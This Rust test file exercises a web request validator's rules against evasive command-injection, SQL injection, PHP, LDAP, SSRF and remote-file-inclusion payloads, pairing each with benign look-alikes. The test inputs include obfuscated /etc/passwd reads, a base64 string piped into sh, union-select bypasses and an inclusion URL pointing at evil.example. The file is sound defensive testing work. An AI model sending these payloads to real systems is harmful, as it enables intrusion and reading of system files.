//! Value rules added for evasive command, SQL, PHP and SSRF payloads, positive and negative.

use super::*;

// ---- Shell commands ----------------------------------------------------------------------------

#[test]
fn commands_glued_to_an_ampersand() {
    assert_fired(
        &get("/get?view=image.jpg%26bcdboot%20%3C%20file.txt"),
        "cmd-separator-command",
    );
    // `&` between words is prose.
    assert_allowed(&post_json(r#"{"name": "Table tennis set & net"}"#));
    assert_allowed(&post_json(r#"{"name": "AT&T prepaid SIM"}"#));
}

#[test]
fn split_command_words() {
    assert_flagged(
        &get("/get?x=pi$()ng%20127.0.0.1"),
        Category::CommandInjection,
    );
    assert_flagged(
        &get("/get?x=ping``%20127.0.0.1"),
        Category::CommandInjection,
    );
    assert_allowed(&get("/get?test=O%27keefe%27s"));
    assert_allowed(&get("/get?test=Size:%208%22x11%22"));
}

#[test]
fn tilde_and_history_expansion() {
    assert_flagged(&get("/get?a=~%2B"), Category::CommandInjection);
    assert_flagged(&get("/get?rce=!-1!-2"), Category::CommandInjection);
    assert_allowed(&get("/get?a=~5%20minutes"));
    assert_allowed(&get("/get?a=Great!!%20-1%20point"));
}

#[test]
fn brace_words_and_variable_concatenation() {
    assert_flagged(&get("/get?a=%7Bl,-lh%7Ds"), Category::CommandInjection);
    assert_flagged(
        &post_form("exec=c1%3Dc%3Bc2%3Da%3Bc3%3Dt%3B%24c1%24c2%24c3+%2Fetc"),
        Category::CommandInjection,
    );
    assert_allowed(&post_json(r#"{"css": "a{color:red,blue}"}"#));
    assert_allowed(&post_form("price=%245+and+%2410"));
}

#[test]
fn pipes_into_a_shell() {
    assert_blocked(
        &post_form("a=echo+%22d2hvYW1p%22+%7C+base64+-d+%7C+sh"),
        Category::CommandInjection,
    );
    assert_allowed(&post_form("table=%7C+name+%7C+shop+%7C"));
}

#[test]
fn globs_hidden_behind_comment_syntax_and_brackets() {
    assert_flagged(&get("/get?id=cat+/et*/*wd"), Category::CommandInjection);
    assert_flagged(
        &get("/get?cmd=cat%20/%5B?%5Dtc/pa%5B?%5Dswd"),
        Category::CommandInjection,
    );
    assert_allowed(&get("/get?glob=src/**/test.js"));
    assert_allowed(&get("/get?item=list%5B0%5D"));
}

#[test]
fn windows_conditions_and_variables() {
    assert_flagged(
        &get("/get?foo=IF+CMDEXTVERSION+1+GOTO+start"),
        Category::CommandInjection,
    );
    assert_flagged(&get("/get?foo=if+a%3D%3Db+foo"), Category::CommandInjection);
    assert_flagged(
        &post_form("var=type+%25SystemDrive%25%5Cconfig.ini"),
        Category::CommandInjection,
    );
    assert_allowed(&get("/search?q=what+if+it+rains"));
    assert_allowed(&post_form("note=50%25+off+today%2C+25%25+tomorrow"));
}

#[test]
fn sqlite_and_imap_commands() {
    assert_flagged(&get("/get?foo=;%0A.databases"), Category::CommandInjection);
    assert_flagged(
        &post_form("t=%0D%0Az001+search+charset+windows-1252+deleted"),
        Category::CommandInjection,
    );
    assert_allowed(&get("/get?file=report.tables.csv"));
    assert_allowed(&post_form("t=Hello%0D%0AI+will+search+later"));
}

#[test]
fn admin_tools_at_the_start_of_a_parameter() {
    assert_flagged(
        &post_form("code=ansible+all+-m+ping%0A"),
        Category::CommandInjection,
    );
    assert_flagged(&post_form("code=visudo%0A"), Category::CommandInjection);
    assert_allowed(&get("/search?q=kubectl+tutorial"));
    // Not in headers: the header rules cover those.
    let v = check(&validator(), "GET", "/", &[("User-Agent", "wget")], "");
    assert_not_fired(&v, "cmd-bare-tool");
}

// ---- SQL injection -----------------------------------------------------------------------------

#[test]
fn escaped_quotes_before_boolean_operators() {
    assert_flagged(&post_form("var=%5C%27or%271"), Category::Sqli);
    assert_flagged(
        &post_form("email=admin%40juice-sh.op%5C%27%20or%20json_valid%20(id)%3B"),
        Category::Sqli,
    );
    assert_allowed(&post_form("path=C%3A%5Cdocs%5Creport"));
}

#[test]
fn quote_boolean_and_trailing_comment() {
    assert_flagged(
        &post_form("email=%27%20and%20email%20not%20similar%20to%20id--"),
        Category::Sqli,
    );
    assert_allowed(&post_form("msg=it%27s+fine+and+done+--+bye+now"));
}

#[test]
fn subqueries_and_set_operations() {
    assert_flagged(&get("/get?var=in+(+select+*+from"), Category::Sqli);
    assert_flagged(&get("/get?var=except+select+1,2"), Category::Sqli);
    assert_allowed(&get("/search?q=select+in+stock+items"));
}

#[test]
fn literal_comparisons() {
    assert_flagged(&get("/get?a=1=1"), Category::Sqli);
    assert_flagged(&get("/get?a=11!=1"), Category::Sqli);
    assert_flagged(&get("/get?a=1%20is%20not%202"), Category::Sqli);
    assert_allowed(&get("/get?a=1"));
    assert_allowed(&get("/search?q=chapter+1+is+not+finished+yet"));
}

#[test]
fn sql_conditions_and_tables() {
    assert_flagged(&get("/get?var=if(2%3D"), Category::Sqli);
    assert_flagged(&post_form("a=%2FCREATE+TABLE+Persons"), Category::Sqli);
    // Program code in a comment is not SQL.
    assert_allowed(&post_form("comment=if+(x+%3E+0)+%7B+y()+%7D"));
    assert_allowed(&post_form("q=how+to+create+a+table+in+word"));
}

#[test]
fn comments_glued_to_keywords() {
    assert_flagged(
        &post_form("test=DROP%2F%2Acomment%2A%2Fsampletable"),
        Category::Sqli,
    );
    assert_blocked(
        &get("/get?id=1+%2F%2A!50000union%2A%2F+%2F%2A!50000select%2A%2F+1"),
        Category::Sqli,
    );
    // A licence comment in pasted CSS.
    assert_allowed(&post_form(
        "css=%2F%2A!+normalize.css+v8+%2A%2F+html%7Bline-height%3A1.15%7D",
    ));
}

#[test]
fn ldap_filter_injection() {
    assert_flagged(
        &get("/?filter=value)(gidNumber%3C%3D100"),
        Category::CodeInjection,
    );
    assert_allowed(&get("/?q=see+(a)+(b)"));
}

// ---- PHP, JavaScript, SSRF ---------------------------------------------------------------------

#[test]
fn php_tags_variables_and_functions() {
    assert_blocked(
        &get("/get?foo=%3C%3F%20php%20echo%20%22x%22"),
        Category::CodeInjection,
    );
    assert_flagged(&get("/get?foo=$%20%7B$a%7D"), Category::CodeInjection);
    assert_flagged(&get("/get/?test=is_array()"), Category::CodeInjection);
    assert_flagged(&get("/get/substr()"), Category::CodeInjection);
    assert_flagged(
        &get("/get?code=extension_dir=/path/to/x"),
        Category::CodeInjection,
    );
    // JavaScript template literals and Wikipedia-style paths are not PHP.
    assert_allowed(&post_json(r#"{"tpl": "Hello ${name}"}"#));
    assert_allowed(&get("/wiki/Mercury_(planet)"));
    assert_allowed(&get("/search?q=search+engine+settings"));
}

#[test]
fn javascript_snippets_only_at_paranoia_2() {
    let strict = Validator::new(&ValidatorConfig {
        paranoia: 2,
        ..ValidatorConfig::default()
    })
    .expect("valid");
    let uri = "/get?foo=console.info(1)";
    assert_allowed(&get(uri));
    assert_flagged(
        &check(&strict, "GET", uri, &[("User-Agent", "Mozilla/5.0")], ""),
        Category::CodeInjection,
    );
}

#[test]
fn ssrf_through_unix_sockets_and_confusing_urls() {
    assert_blocked(
        &get("/?unix:AAAAAAAAA%7Chttp://example.org/"),
        Category::RfiSsrf,
    );
    assert_flagged(
        &get("/get?ssrf=http://google.com:80+%26@google.com:80%23+@127.88.23.245:22/"),
        Category::RfiSsrf,
    );
    assert_allowed(&get("/get?next=https://user@example.com/path"));
}

#[test]
fn scheme_names_ending_in_a_question_mark() {
    assert_flagged(&get("/get?x=http?"), Category::RfiSsrf);
    assert_allowed(&get("/get?x=http"));
    assert_allowed(&get("/search?q=what+is+http"));
}

#[test]
fn remote_file_inclusion_parameters() {
    assert_flagged(
        &get("/plugins/BaseAdmin.class.php?_CONF[path]=https://foo.bar"),
        Category::RfiSsrf,
    );
    assert_flagged(
        &get("/show.php?mosConfig_absolute_path=http://evil.example/x"),
        Category::RfiSsrf,
    );
    assert_allowed(&get("/share?url=https://example.org/article"));
    assert_allowed(&get("/files?path=/docs/report.pdf"));
}

#[test]
fn postgres_type_casts() {
    assert_flagged(&get("/get?id=function(foo)::text"), Category::Sqli);
    assert_flagged(&get("/get?id=1+current_user::int"), Category::Sqli);
    assert_allowed(&post_form("code=std::string+name%3B"));
}

#[test]
fn authorization_credentials_are_inspected() {
    let auth = |value: &str| check(&validator(), "GET", "/api", &[("Authorization", value)], "");
    // `admin' or '1'='1'--:x` in Basic.
    let v = auth("Basic YWRtaW4nIG9yICcxJz0nMSctLTp4");
    assert_blocked(&v, Category::Sqli);
    assert!(
        v.findings.iter().any(|f| f.field == "authorization:user"),
        "{v:#?}"
    );
    assert_blocked(&auth("Bearer <script>alert(1)</script>"), Category::Xss);
    // `alice:S3cr3t!pass`, and an ordinary JWT.
    assert_allowed(&auth("Basic YWxpY2U6UzNjcjN0IXBhc3M="));
    assert_allowed(&auth(
        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ));
}
